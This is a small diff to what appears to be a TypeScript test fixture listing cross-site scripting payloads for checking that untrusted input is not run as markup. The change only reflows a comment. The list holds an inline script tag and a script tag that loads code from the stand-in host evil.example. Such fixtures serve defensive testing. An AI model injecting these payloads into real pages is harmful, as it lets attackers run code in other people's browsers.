@@ -1,4 +1,7 @@
-/** What people send who want somebody else's browser to run something (trust.md NT1, NT4). Each would call `pwned`, were it read as markup. */
+/**
+ * What people send who want somebody else's browser to run something (trust.md NT1, NT4). Each would call `pwned`, were
+ * it read as markup.
+ */
 export const attacks: readonly string[] = [
   '<script>pwned()</script>',
   '<script src=//evil.example/x.js></script>',
